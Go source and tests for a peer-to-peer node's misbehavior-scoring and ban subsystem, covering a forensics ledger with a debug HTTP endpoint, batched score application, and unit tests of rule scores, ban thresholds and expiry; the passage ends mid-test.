// chain holds one peer's records as a ring: it fills by appending until
// maxPerPeer, then overwrites oldest-first in place. The ring matters on
// the hot path — the misbehavior benchmark caught the previous
// copy-to-trim scheme recopying the whole chain on every append once a
// flooding peer's chain was full (~15 KB per scoring call).
type chain struct {
	records []BanRecord
	head    int // index of the oldest record once the ring is full
	seq     uint64
}

// last returns the most recently appended record.
func (c *chain) last() BanRecord {
	if c.head == 0 {
		return c.records[len(c.records)-1]
	}
	return c.records[c.head-1]
}

// snapshot copies the chain out oldest-first.
func (c *chain) snapshot() []BanRecord {
	out := make([]BanRecord, 0, len(c.records))
	out = append(out, c.records[c.head:]...)
	out = append(out, c.records[:c.head]...)
	return out
}

// NewLedger builds a ledger; non-positive bounds select the defaults.
func NewLedger(maxPeers, maxPerPeer int) *Ledger {
	if maxPeers <= 0 {
		maxPeers = DefaultLedgerPeers
	}
	if maxPerPeer <= 0 {
		maxPerPeer = DefaultLedgerPerPeer
	}
	return &Ledger{
		chains:     make(map[PeerID]*chain),
		maxPeers:   maxPeers,
		maxPerPeer: maxPerPeer,
	}
}

// Append records rec, stamping its per-peer sequence number, and returns
// the stamp — the durability layer writes it into the WAL so replay can
// dedupe against a snapshot that already captured the record. No-op on a
// nil ledger (returning 0, the "unstamped" sentinel Restore recognizes).
func (l *Ledger) Append(rec BanRecord) uint64 {
	if l == nil {
		return 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	c, ok := l.chains[rec.Peer]
	if !ok {
		if len(l.order) >= l.maxPeers {
			oldest := l.order[0]
			l.order = l.order[1:]
			delete(l.chains, oldest)
			l.evicted++
		}
		c = &chain{}
		l.chains[rec.Peer] = c
		l.order = append(l.order, rec.Peer)
	}
	c.seq++
	rec.Seq = c.seq
	if len(c.records) < l.maxPerPeer {
		c.records = append(c.records, rec)
	} else {
		c.records[c.head] = rec
		c.head = (c.head + 1) % len(c.records)
		l.trimmed++
	}
	l.total++
	return c.seq
}

// Records returns the peer's chain, oldest first (nil when unknown).
func (l *Ledger) Records(id PeerID) []BanRecord {
	if l == nil {
		return nil
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	c, ok := l.chains[id]
	if !ok {
		return nil
	}
	return c.snapshot()
}

// Peers returns every peer with at least one record, ordered by first
// appearance.
func (l *Ledger) Peers() []PeerID {
	if l == nil {
		return nil
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]PeerID, len(l.order))
	copy(out, l.order)
	return out
}

// Total returns how many records were ever appended.
func (l *Ledger) Total() uint64 {
	if l == nil {
		return 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.total
}

// ledgerSummary is one peer's row in the /debug/bans index.
type ledgerSummary struct {
	Peer     PeerID    `json:"peer"`
	Records  int       `json:"records"`
	Score    int       `json:"score"`
	Banned   bool      `json:"banned"`
	LastRule string    `json:"last_rule"`
	LastAt   time.Time `json:"last_at"`
}

// peerResponse is the /debug/bans/<peer> document.
type peerResponse struct {
	Peer            PeerID      `json:"peer"`
	CurrentlyBanned *bool       `json:"currently_banned,omitempty"`
	Records         []BanRecord `json:"records"`
}

// indexResponse is the /debug/bans document.
type indexResponse struct {
	Total   uint64          `json:"total"`
	Evicted uint64          `json:"evicted_peers"`
	Trimmed uint64          `json:"trimmed_records"`
	Peers   []ledgerSummary `json:"peers"`
}

// Handler serves the ledger over HTTP. Mounted at /debug/bans it answers
//
//	/debug/bans          — per-peer summaries (records, last rule, score)
//	/debug/bans/<peer>   — the peer's complete ordered rule/delta/score chain
//
// isBanned, when non-nil, annotates responses with the peer's *current* ban
// state (pass Tracker.IsBanned); the record chains themselves are history
// and outlive the ban.
func (l *Ledger) Handler(isBanned func(PeerID) bool) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		rest := strings.TrimPrefix(r.URL.Path, "/debug/bans")
		rest = strings.Trim(rest, "/")
		if rest == "" {
			l.serveIndex(w, isBanned)
			return
		}
		// Peer identifiers contain ":" and, for IPv6, "[]" — clients that
		// escape the path segment must still resolve the same peer.
		if unescaped, err := url.PathUnescape(rest); err == nil {
			rest = unescaped
		}
		id := PeerID(rest)
		records := l.Records(id)
		if records == nil {
			w.WriteHeader(http.StatusNotFound)
			_ = json.NewEncoder(w).Encode(map[string]string{"error": "no forensics records for peer " + rest})
			return
		}
		resp := peerResponse{Peer: id, Records: records}
		if isBanned != nil {
			b := isBanned(id)
			resp.CurrentlyBanned = &b
		}
		_ = json.NewEncoder(w).Encode(resp)
	})
}

func (l *Ledger) serveIndex(w http.ResponseWriter, isBanned func(PeerID) bool) {
	if l == nil {
		_ = json.NewEncoder(w).Encode(indexResponse{Peers: []ledgerSummary{}})
		return
	}
	l.mu.Lock()
	resp := indexResponse{
		Total:   l.total,
		Evicted: l.evicted,
		Trimmed: l.trimmed,
		Peers:   make([]ledgerSummary, 0, len(l.order)),
	}
	for _, id := range l.order {
		c := l.chains[id]
		last := c.last()
		resp.Peers = append(resp.Peers, ledgerSummary{
			Peer:     id,
			Records:  len(c.records),
			Score:    last.Score,
			Banned:   last.Banned,
			LastRule: last.Rule,
			LastAt:   last.At,
		})
	}
	l.mu.Unlock()
	if isBanned != nil {
		for i := range resp.Peers {
			resp.Peers[i].Banned = isBanned(resp.Peers[i].Peer)
		}
	}
	_ = json.NewEncoder(w).Encode(resp)
}
