package core

import (
	"bytes"
	"encoding/json"
	"fmt"
	"sort"
	"testing"
	"time"
)

// fixedClock gives both trackers in the equivalence test the same
// timestamps, so exported BanRecords and ban expiries can be compared
// byte for byte.
func fixedClock() func() time.Time {
	base := time.Unix(1700000000, 0).UTC()
	return func() time.Time { return base }
}

// canonicalExport serializes the complete observable state of a tracker —
// scores, good scores, ban list, forensics ledger — into canonical JSON.
// Maps marshal with sorted keys; ledger chains are sorted by peer because
// cross-peer first-appearance order in the ledger is a property of
// scheduling (concurrent direct calls race at the ledger too), while
// per-peer chain content and Seq are the linearized facts the batch must
// preserve exactly.
func canonicalExport(t *testing.T, tr *Tracker, ledger *Ledger) []byte {
	t.Helper()
	scores, good := tr.ExportScores()
	bans := tr.BanList().Export()
	st := ledger.ExportState()
	sort.Slice(st.Chains, func(i, j int) bool { return st.Chains[i].Peer < st.Chains[j].Peer })
	out, err := json.Marshal(struct {
		Scores map[PeerID]int
		Good   map[PeerID]int
		Bans   map[PeerID]time.Time
		Ledger LedgerState
	}{scores, good, bans, st})
	if err != nil {
		t.Fatalf("marshal export: %v", err)
	}
	return out
}

// opSequence builds a churn-heavy mixed op stream: many peers spread over
// every shard, repeat offenders crossing the ban threshold mid-stream and
// re-offending after, role-restricted rules against both roles, and rules
// deprecated in the configured version (which must gate identically).
func opSequence() []BatchOp {
	var ops []BatchOp
	for i := 0; i < 400; i++ {
		id := PeerID(fmt.Sprintf("[10.1.%d.%d]:%d", i%7, i%53, 10000+i%11))
		ops = append(ops, BatchOp{
			ID: id, Inbound: i%3 != 0, Rule: VersionDuplicate,
			Ctx: MisbehaviorContext{Command: "version", PayloadDigest: uint32(i), PayloadLen: 86},
		})
		if i%5 == 0 {
			ops = append(ops, BatchOp{
				ID: id, Inbound: i%3 != 0, Rule: BlockMutated,
				Ctx: MisbehaviorContext{Command: "block", PayloadDigest: uint32(i * 31), PayloadLen: 1000},
			})
		}
		if i%9 == 0 {
			// Role-restricted: outbound-only rule against an inbound peer
			// must be a no-op on both paths.
			ops = append(ops, BatchOp{ID: id, Inbound: true, Rule: BlockCachedInvalid})
		}
	}
	return ops
}

func newEquivTracker() (*Tracker, *Ledger) {
	ledger := NewLedger(0, 0)
	tr := NewTracker(Config{
		Version:   V0_20_0,
		Clock:     fixedClock(),
		Forensics: ledger,
	})
	return tr, ledger
}

// TestBatchEquivalence drives the same op sequence through the direct
// MisbehavingCtx path and through Batch staging flushed in uneven chunks,
// and requires byte-identical canonical exports plus op-for-op identical
// Results — the acceptance bar for the event loop's batched ban path.
func TestBatchEquivalence(t *testing.T) {
	ops := opSequence()

	directTr, directLedger := newEquivTracker()
	var directResults []Result
	for _, op := range ops {
		directResults = append(directResults, directTr.MisbehavingCtx(op.ID, op.Inbound, op.Rule, op.Ctx))
	}

	batchTr, batchLedger := newEquivTracker()
	b := batchTr.NewBatch()
	var batchResults []Result
	flushAt := []int{1, 3, 50, 64, 107, 333} // uneven chunking, incl. mid-peer
	next := 0
	for i, op := range ops {
		b.Add(op.ID, op.Inbound, op.Rule, op.Ctx)
		if next < len(flushAt) && i == flushAt[next] {
			b.Flush(func(_ BatchOp, res Result) { batchResults = append(batchResults, res) })
			next++
		}
	}
	b.Flush(func(_ BatchOp, res Result) { batchResults = append(batchResults, res) })

	if len(batchResults) != len(directResults) {
		t.Fatalf("result count: batch %d, direct %d", len(batchResults), len(directResults))
	}
	for i := range directResults {
		if batchResults[i] != directResults[i] {
			t.Fatalf("op %d result diverged: batch %+v, direct %+v", i, batchResults[i], directResults[i])
		}
	}

	direct := canonicalExport(t, directTr, directLedger)
	batched := canonicalExport(t, batchTr, batchLedger)
	if !bytes.Equal(direct, batched) {
		t.Fatalf("exports diverged\ndirect:  %s\nbatched: %s", direct, batched)
	}
}

// TestBatchMidBatchBan pins the mid-batch ban semantics: a peer crossing
// the threshold inside one flush has its score reset, and later staged
// hits in the same flush accumulate from zero — never lost, never
// double-applied.
func TestBatchMidBatchBan(t *testing.T) {
	tr, _ := newEquivTracker()
	b := tr.NewBatch()
	id := PeerID("[10.9.9.9]:4444")
	// VersionDuplicate scores 1 in 0.20.0; 100 hits ban. Stage 103.
	for i := 0; i < 103; i++ {
		b.Add(id, true, VersionDuplicate, MisbehaviorContext{Command: "version"})
	}
	var results []Result
	b.Flush(func(_ BatchOp, res Result) { results = append(results, res) })

	bannedAt := -1
	for i, res := range results {
		if res.Banned {
			bannedAt = i
			break
		}
	}
	if bannedAt != 99 {
		t.Fatalf("ban landed at staged op %d, want 99", bannedAt)
	}
	if !tr.IsBanned(id) {
		t.Fatal("peer not on ban list after mid-batch threshold crossing")
	}
	// The 3 post-ban hits restart from zero: staged deltas after the ban
	// are applied, not dropped.
	if got := tr.Score(id); got != 3 {
		t.Fatalf("post-ban score %d, want 3", got)
	}
	if results[100].Score != 1 || results[102].Score != 3 {
		t.Fatalf("post-ban results %+v, %+v; want totals 1 and 3", results[100], results[102])
	}
}

// TestBatchEmptyAndGatedOps checks the degenerate paths: flushing an empty
// batch is a no-op, and gated ops (disabled mode) report zero Results
// without touching state.
func TestBatchEmptyAndGatedOps(t *testing.T) {
	tr, _ := newEquivTracker()
	b := tr.NewBatch()
	b.Flush(func(BatchOp, Result) { t.Fatal("callback on empty flush") })

	off := NewTracker(Config{Version: V0_20_0, Mode: ModeDisabled, Clock: fixedClock()})
	ob := off.NewBatch()
	ob.Add("[10.0.0.2]:1", true, VersionDuplicate, MisbehaviorContext{})
	calls := 0
	ob.Flush(func(_ BatchOp, res Result) {
		calls++
		if res.Applied {
			t.Fatalf("disabled-mode op applied: %+v", res)
		}
	})
	if calls != 1 {
		t.Fatalf("callback ran %d times, want 1", calls)
	}
	if off.TrackedPeers() != 0 {
		t.Fatal("disabled tracker holds state after gated flush")
	}
}
