package core

import (
	"net"
	"testing"
	"testing/quick"
	"time"
)

// mockClock is an adjustable time source.
type mockClock struct{ at time.Time }

func newMockClock() *mockClock               { return &mockClock{at: time.Unix(1700000000, 0)} }
func (c *mockClock) Now() time.Time          { return c.at }
func (c *mockClock) Advance(d time.Duration) { c.at = c.at.Add(d) }

func TestRuleCatalogMatchesTable1(t *testing.T) {
	rules := Catalog()
	if len(rules) != 19 {
		t.Fatalf("catalog has %d rules, want the 19 Table I rows", len(rules))
	}

	// Spot-check the critical rows of Table I.
	checks := []struct {
		id     RuleID
		score  int
		object BanObject
		typ    MisbehaviorType
	}{
		{BlockMutated, 100, AnyPeer, MisbehaviorInvalid},
		{BlockCachedInvalid, 100, OutboundPeer, MisbehaviorInvalid},
		{BlockPrevInvalid, 100, AnyPeer, MisbehaviorInvalid},
		{BlockPrevMissing, 10, AnyPeer, MisbehaviorInvalid},
		{TxInvalidSegWit, 100, AnyPeer, MisbehaviorInvalid},
		{GetBlockTxnOutOfBounds, 100, AnyPeer, MisbehaviorOversize},
		{HeadersNonConnecting, 20, AnyPeer, MisbehaviorDisorder},
		{HeadersNonContinuous, 20, AnyPeer, MisbehaviorDisorder},
		{HeadersOversize, 20, AnyPeer, MisbehaviorOversize},
		{AddrOversize, 20, AnyPeer, MisbehaviorOversize},
		{InvOversize, 20, AnyPeer, MisbehaviorOversize},
		{GetDataOversize, 20, AnyPeer, MisbehaviorOversize},
		{CmpctBlockInvalid, 100, AnyPeer, MisbehaviorInvalid},
		{FilterLoadOversize, 100, AnyPeer, MisbehaviorOversize},
		{FilterAddOversize, 100, AnyPeer, MisbehaviorOversize},
		{VersionDuplicate, 1, InboundPeer, MisbehaviorRepeat},
		{MessageBeforeVersion, 1, InboundPeer, MisbehaviorDisorder},
		{MessageBeforeVerack, 1, InboundPeer, MisbehaviorDisorder},
	}
	for _, c := range checks {
		r, ok := LookupRule(c.id)
		if !ok {
			t.Errorf("rule %v missing from catalog", c.id)
			continue
		}
		if s, ok := r.ScoreIn(V0_20_0); !ok || s != c.score {
			t.Errorf("%v score in 0.20.0 = %d,%v, want %d", c.id, s, ok, c.score)
		}
		if r.Object != c.object {
			t.Errorf("%v object = %v, want %v", c.id, r.Object, c.object)
		}
		if r.Type != c.typ {
			t.Errorf("%v type = %v, want %v", c.id, r.Type, c.typ)
		}
	}
}

func TestRuleDeprecationAcrossVersions(t *testing.T) {
	tests := []struct {
		id   RuleID
		in20 bool
		in21 bool
		in22 bool
	}{
		{BlockMutated, true, true, true},
		{FilterAddNoBloomVersion, true, false, false},
		{VersionDuplicate, true, true, false},
		{MessageBeforeVersion, true, true, false},
		{MessageBeforeVerack, true, false, false},
	}
	for _, tt := range tests {
		r, _ := LookupRule(tt.id)
		if _, ok := r.ScoreIn(V0_20_0); ok != tt.in20 {
			t.Errorf("%v in 0.20.0 = %v, want %v", tt.id, ok, tt.in20)
		}
		if _, ok := r.ScoreIn(V0_21_0); ok != tt.in21 {
			t.Errorf("%v in 0.21.0 = %v, want %v", tt.id, ok, tt.in21)
		}
		if _, ok := r.ScoreIn(V0_22_0); ok != tt.in22 {
			t.Errorf("%v in 0.22.0 = %v, want %v", tt.id, ok, tt.in22)
		}
	}
}

func TestScoredMessageTypesIs12Of26(t *testing.T) {
	types := ScoredMessageTypes(V0_20_0)
	if len(types) != 12 {
		t.Errorf("0.20.0 scored message types = %d (%v), want 12 per the paper", len(types), types)
	}
	if MessageTypeCount != 26 {
		t.Error("developer reference lists 26 message types")
	}
	// VERACK rules are gone by 0.21, VERSION rules by 0.22.
	if got := len(ScoredMessageTypes(V0_21_0)); got != 11 {
		t.Errorf("0.21.0 scored message types = %d, want 11", got)
	}
	if got := len(ScoredMessageTypes(V0_22_0)); got != 10 {
		t.Errorf("0.22.0 scored message types = %d, want 10", got)
	}
}

func TestTrackerBansAtThreshold(t *testing.T) {
	clock := newMockClock()
	var bannedID PeerID
	tr := NewTracker(Config{
		Clock: clock.Now,
		OnBan: func(id PeerID, score int) { bannedID = id },
	})
	peer := PeerIDFromAddr("10.0.0.2:50001")

	// VERSION duplicate scores 1: needs 100 messages to ban (Fig. 8).
	for i := 1; i <= 99; i++ {
		res := tr.Misbehaving(peer, true, VersionDuplicate)
		if !res.Applied || res.Banned {
			t.Fatalf("message %d: res = %+v", i, res)
		}
		if res.Score != i {
			t.Fatalf("score after %d messages = %d", i, res.Score)
		}
	}
	res := tr.Misbehaving(peer, true, VersionDuplicate)
	if !res.Banned || res.Score != 100 {
		t.Fatalf("100th message: res = %+v, want ban at 100", res)
	}
	if bannedID != peer {
		t.Error("OnBan callback not invoked with the peer id")
	}
	if !tr.IsBanned(peer) {
		t.Error("peer not in ban list")
	}
	// Score state is dropped after the ban.
	if tr.Score(peer) != 0 {
		t.Errorf("post-ban score = %d, want 0", tr.Score(peer))
	}
}

func TestTrackerSingleShotBanRules(t *testing.T) {
	tr := NewTracker(Config{Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	res := tr.Misbehaving(peer, true, BlockMutated)
	if !res.Banned {
		t.Errorf("mutated block (100) should ban instantly: %+v", res)
	}
}

func TestTrackerObjectOfBanRestrictions(t *testing.T) {
	tr := NewTracker(Config{Clock: newMockClock().Now})
	inbound := PeerIDFromAddr("10.0.0.2:50001")
	outbound := PeerIDFromAddr("10.0.0.3:8333")

	// BlockCachedInvalid only applies to outbound peers.
	if res := tr.Misbehaving(inbound, true, BlockCachedInvalid); res.Applied {
		t.Error("outbound-only rule applied to inbound peer")
	}
	if res := tr.Misbehaving(outbound, false, BlockCachedInvalid); !res.Applied || !res.Banned {
		t.Errorf("outbound-only rule on outbound peer = %+v", res)
	}

	// VERSION rules only apply to inbound peers.
	if res := tr.Misbehaving(outbound, false, VersionDuplicate); res.Applied {
		t.Error("inbound-only rule applied to outbound peer")
	}
}

func TestTrackerDeprecatedRuleNotApplied(t *testing.T) {
	tr := NewTracker(Config{Version: V0_22_0, Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	if res := tr.Misbehaving(peer, true, VersionDuplicate); res.Applied {
		t.Error("VERSION rule applied in 0.22.0 where it is deprecated")
	}
	// An always-present rule still applies.
	if res := tr.Misbehaving(peer, true, BlockMutated); !res.Applied {
		t.Error("BlockMutated missing in 0.22.0")
	}
}

func TestTrackerAccumulatesMixedRules(t *testing.T) {
	tr := NewTracker(Config{Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	tr.Misbehaving(peer, true, AddrOversize)     // +20
	tr.Misbehaving(peer, true, HeadersOversize)  // +20
	tr.Misbehaving(peer, true, BlockPrevMissing) // +10
	if got := tr.Score(peer); got != 50 {
		t.Errorf("mixed score = %d, want 50", got)
	}
	res := tr.Misbehaving(peer, true, InvOversize) // +20 -> 70
	if res.Banned {
		t.Error("banned below threshold")
	}
	res = tr.Misbehaving(peer, true, GetBlockTxnOutOfBounds) // +100 -> 170
	if !res.Banned || res.Score != 170 {
		t.Errorf("threshold crossing = %+v", res)
	}
}

func TestModeThresholdInfinityNeverBans(t *testing.T) {
	tr := NewTracker(Config{Mode: ModeThresholdInfinity, Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	for i := 0; i < 10; i++ {
		res := tr.Misbehaving(peer, true, BlockMutated)
		if res.Banned {
			t.Fatal("threshold-infinity mode banned a peer")
		}
		if !res.Applied {
			t.Fatal("threshold-infinity mode stopped tracking")
		}
	}
	if got := tr.Score(peer); got != 1000 {
		t.Errorf("score = %d, want 1000 (tracking continues)", got)
	}
	if tr.IsBanned(peer) {
		t.Error("peer banned in threshold-infinity mode")
	}
}

func TestModeDisabledTracksNothing(t *testing.T) {
	tr := NewTracker(Config{Mode: ModeDisabled, Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	res := tr.Misbehaving(peer, true, BlockMutated)
	if res.Applied || res.Banned || res.Score != 0 {
		t.Errorf("disabled mode result = %+v", res)
	}
	if tr.Score(peer) != 0 || tr.TrackedPeers() != 0 {
		t.Error("disabled mode kept state")
	}
}

func TestModeGoodScore(t *testing.T) {
	tr := NewTracker(Config{Mode: ModeGoodScore, Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	// Misbehavior never bans.
	res := tr.Misbehaving(peer, true, BlockMutated)
	if res.Applied || res.Banned {
		t.Errorf("good-score mode result = %+v", res)
	}
	// Credit accrues per valid block.
	for i := 1; i <= 3; i++ {
		if got := tr.AddGood(peer); got != i {
			t.Errorf("good score after %d blocks = %d", i, got)
		}
	}
	if tr.GoodScore(peer) != 3 {
		t.Errorf("GoodScore = %d", tr.GoodScore(peer))
	}
	if tr.Reputation(peer) != 3 {
		t.Errorf("Reputation = %d", tr.Reputation(peer))
	}
}

func TestBanExpiry(t *testing.T) {
	clock := newMockClock()
	tr := NewTracker(Config{Clock: clock.Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	tr.Misbehaving(peer, true, BlockMutated)
	if !tr.IsBanned(peer) {
		t.Fatal("not banned")
	}
	clock.Advance(23 * time.Hour)
	if !tr.IsBanned(peer) {
		t.Error("ban expired early")
	}
	clock.Advance(90 * time.Minute)
	if tr.IsBanned(peer) {
		t.Error("24h ban did not expire")
	}
}

func TestForget(t *testing.T) {
	tr := NewTracker(Config{Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	tr.Misbehaving(peer, true, AddrOversize)
	tr.AddGood(peer)
	tr.Forget(peer)
	if tr.Score(peer) != 0 || tr.GoodScore(peer) != 0 {
		t.Error("Forget left state behind")
	}
}

func TestBanListBasics(t *testing.T) {
	clock := newMockClock()
	b := NewBanList(clock.Now)
	id := NewPeerID(net.ParseIP("10.0.0.2"), 50001)
	if string(id) != "10.0.0.2:50001" {
		t.Errorf("PeerID = %q", id)
	}
	b.Ban(id, time.Hour)
	if !b.IsBanned(id) || b.Count() != 1 {
		t.Error("ban not recorded")
	}
	ids := b.BannedIDs()
	if len(ids) != 1 || ids[0] != id {
		t.Errorf("BannedIDs = %v", ids)
	}
	b.Unban(id)
	if b.IsBanned(id) || b.Count() != 0 {
		t.Error("unban failed")
	}
}

func TestBanListExpiryPruning(t *testing.T) {
	clock := newMockClock()
	b := NewBanList(clock.Now)
	b.Ban(PeerIDFromAddr("10.0.0.2:1"), time.Minute)
	b.Ban(PeerIDFromAddr("10.0.0.2:2"), time.Hour)
	clock.Advance(2 * time.Minute)
	if b.Count() != 1 {
		t.Errorf("Count after partial expiry = %d, want 1", b.Count())
	}
}

func TestBannedPortCountForIP(t *testing.T) {
	clock := newMockClock()
	b := NewBanList(clock.Now)
	target := net.ParseIP("10.0.0.9")
	for port := uint16(49152); port < 49252; port++ {
		b.Ban(NewPeerID(target, port), time.Hour)
	}
	b.Ban(NewPeerID(net.ParseIP("10.0.0.8"), 49152), time.Hour)
	if got := b.BannedPortCountForIP(target); got != 100 {
		t.Errorf("BannedPortCountForIP = %d, want 100", got)
	}
}

func TestPeerIDIP(t *testing.T) {
	id := PeerIDFromAddr("10.0.0.2:50001")
	if ip := id.IP(); ip == nil || !ip.Equal(net.ParseIP("10.0.0.2")) {
		t.Errorf("IP() = %v", id.IP())
	}
	if PeerIDFromAddr("garbage").IP() != nil {
		t.Error("garbage identifier parsed")
	}
}

func TestScoreMonotoneProperty(t *testing.T) {
	// Property: under threshold-infinity mode, score is the sum of the
	// applied rule scores, in any order.
	f := func(ruleIdx []uint8) bool {
		tr := NewTracker(Config{Mode: ModeThresholdInfinity, Clock: newMockClock().Now})
		peer := PeerIDFromAddr("10.0.0.2:50001")
		rules := RuleSet(V0_20_0)
		want := 0
		order := Catalog()
		for _, idx := range ruleIdx {
			r := order[int(idx)%len(order)]
			if r.Object != AnyPeer {
				continue
			}
			res := tr.Misbehaving(peer, true, r.ID)
			if s, ok := rules[r.ID]; ok {
				want += s
				if !res.Applied {
					return false
				}
			} else if res.Applied {
				return false
			}
		}
		return tr.Score(peer) == want
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestEnumStrings(t *testing.T) {
	if V0_20_0.String() != "0.20.0" || CoreVersion(99).String() == "" {
		t.Error("CoreVersion strings")
	}
	if MisbehaviorInvalid.String() != "Invalid" || MisbehaviorType(99).String() == "" {
		t.Error("MisbehaviorType strings")
	}
	if AnyPeer.String() != "Any peer" || InboundPeer.String() != "Inbound peer" ||
		OutboundPeer.String() != "Outbound peer" || BanObject(99).String() == "" {
		t.Error("BanObject strings")
	}
	if ModeStandard.String() != "standard" || Mode(99).String() == "" {
		t.Error("Mode strings")
	}
	if BlockMutated.String() != "BlockMutated" || RuleID(999).String() == "" {
		t.Error("RuleID strings")
	}
	if len(Versions()) != 3 {
		t.Error("Versions() count")
	}
}

func TestModeCKBScoresBothDirections(t *testing.T) {
	tr := NewTracker(Config{Mode: ModeCKB, Clock: newMockClock().Now})
	peer := PeerIDFromAddr("10.0.0.2:50001")
	// Bad behavior accumulates without banning...
	for i := 0; i < 3; i++ {
		res := tr.Misbehaving(peer, true, BlockMutated)
		if !res.Applied || res.Banned {
			t.Fatalf("ckb result = %+v", res)
		}
	}
	if tr.Score(peer) != 300 || tr.IsBanned(peer) {
		t.Errorf("score = %d banned = %v", tr.Score(peer), tr.IsBanned(peer))
	}
	// ...and good behavior counts against it.
	for i := 0; i < 5; i++ {
		tr.AddGood(peer)
	}
	if got := tr.Reputation(peer); got != 5-300 {
		t.Errorf("reputation = %d, want %d", got, 5-300)
	}
	if ModeCKB.String() != "ckb-scoring" {
		t.Errorf("ModeCKB string = %q", ModeCKB)
	}
}
