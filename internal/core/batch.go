package core

// BatchOp is one staged misbehavior application: the arguments of a
// MisbehavingCtx call captured for deferred execution.
type BatchOp struct {
	ID      PeerID
	Inbound bool
	Rule    RuleID
	Ctx     MisbehaviorContext
}

// Batch stages misbehavior applications so an event-loop shard can apply a
// whole iteration's worth of scoring hits with one Tracker shard-lock
// acquisition per touched shard, instead of one per hit. Flush preserves
// staging order within each tracker shard — and a given peer always maps
// to one shard — so the per-peer Seq/Score linearization the forensics
// ledger guarantees is exactly that of the equivalent unbatched call
// sequence: the batched and unbatched paths produce byte-identical
// Tracker exports.
//
// A Batch is owned by a single event-loop shard and is not safe for
// concurrent use. It holds no locks between calls; only Flush touches the
// Tracker, one shard lock at a time (never nested).
type Batch struct {
	t   *Tracker
	ops []BatchOp

	// prepared carries the lock-free gate's verdict per staged op from
	// the staging pass to the locked pass; applied carries the scoring
	// outcome from the locked pass to the callback pass. Both are
	// retained across flushes to avoid per-flush allocation.
	prepared []preparedOp
	applied  []appliedOp

	// buckets groups staged op indices by tracker shard, preserving
	// staging order within each shard.
	buckets [][]int32
}

type preparedOp struct {
	score int
	rule  Rule
	ok    bool
}

type appliedOp struct {
	total  int
	banned bool
}

// NewBatch returns an empty staging buffer against the tracker.
func (t *Tracker) NewBatch() *Batch {
	return &Batch{
		t:       t,
		buckets: make([][]int32, len(t.shards)),
	}
}

// Add stages one misbehavior application. Nothing is scored until Flush.
func (b *Batch) Add(id PeerID, inbound bool, rule RuleID, mctx MisbehaviorContext) {
	b.ops = append(b.ops, BatchOp{ID: id, Inbound: inbound, Rule: rule, Ctx: mctx})
}

// Len reports how many applications are staged.
func (b *Batch) Len() int { return len(b.ops) }

// Flush applies every staged op and resets the buffer. Grouping is by
// tracker shard: each touched shard's lock is taken exactly once and the
// shard's ops run under it in staging order, through the same applyLocked
// body the direct path uses. After all locks are released the post-lock
// side effects (OnApplied, OnBan, ban-list insertion) run in staging
// order; fn, if non-nil, is then invoked per op with its Result — ops
// rejected by the mode/rule/role gate report the zero Result, exactly as
// the direct call would have returned.
func (b *Batch) Flush(fn func(op BatchOp, res Result)) {
	if len(b.ops) == 0 {
		return
	}
	t := b.t

	// Pass 1 (lock-free): gate each op and bucket the survivors by shard.
	b.prepared = b.prepared[:0]
	b.applied = b.applied[:0]
	for i := range b.ops {
		score, r, ok := t.prepare(b.ops[i].Inbound, b.ops[i].Rule)
		b.prepared = append(b.prepared, preparedOp{score: score, rule: r, ok: ok})
		b.applied = append(b.applied, appliedOp{})
		if ok {
			sh := shardFor(b.ops[i].ID, t.mask)
			b.buckets[sh] = append(b.buckets[sh], int32(i))
		}
	}

	// Pass 2: one lock acquisition per touched shard, ops in staging
	// order under it. Locks are strictly sequential, never held together.
	for sh := range b.buckets {
		idxs := b.buckets[sh]
		if len(idxs) == 0 {
			continue
		}
		s := &t.shards[sh]
		s.mu.Lock()
		for _, i := range idxs {
			op, prep := &b.ops[i], &b.prepared[i]
			total, banned := t.applyLocked(s, op.ID, op.Rule, prep.rule, prep.score, op.Ctx)
			b.applied[i] = appliedOp{total: total, banned: banned}
		}
		s.mu.Unlock()
		b.buckets[sh] = idxs[:0]
	}

	// Pass 3 (lock-free): side effects and results in staging order.
	for i := range b.ops {
		var res Result
		if b.prepared[i].ok {
			res = t.finish(b.ops[i].ID, b.ops[i].Rule, b.prepared[i].score, b.applied[i].total, b.applied[i].banned)
		}
		if fn != nil {
			fn(b.ops[i], res)
		}
	}
	b.ops = b.ops[:0]
}
