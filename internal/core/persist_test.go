package core

import (
	"reflect"
	"testing"
	"time"
)

func TestTrackerExportImportScores(t *testing.T) {
	src := NewTracker(Config{})
	src.Misbehaving("a", true, BlockMutated)   // 100 → banned, score reset
	src.Misbehaving("b", true, AddrOversize)  // below threshold
	src.Misbehaving("c", true, AddrOversize)
	src.AddGood("b")
	src.AddGood("b")
	src.AddGood("d")

	scores, good := src.ExportScores()
	if scores["a"] != 0 {
		t.Fatalf("banned peer a should have no live score in export, got %d", scores["a"])
	}
	if scores["b"] == 0 || scores["c"] == 0 {
		t.Fatalf("expected live scores for b and c, got %v", scores)
	}
	if good["b"] != 2 || good["d"] != 1 {
		t.Fatalf("good scores wrong: %v", good)
	}

	dst := NewTracker(Config{})
	dst.ImportScores(scores, good)
	for _, id := range []PeerID{"b", "c"} {
		if dst.Score(id) != src.Score(id) {
			t.Fatalf("score for %s: restored %d, want %d", id, dst.Score(id), src.Score(id))
		}
	}
	if dst.GoodScore("b") != 2 || dst.GoodScore("d") != 1 {
		t.Fatalf("good scores did not survive import")
	}
	if dst.TrackedPeers() != src.TrackedPeers() {
		t.Fatalf("tracked peers: restored %d, want %d", dst.TrackedPeers(), src.TrackedPeers())
	}
}

func TestBanListExportImport(t *testing.T) {
	now := time.Unix(1700000000, 0)
	clk := func() time.Time { return now }
	src := NewBanList(clk)
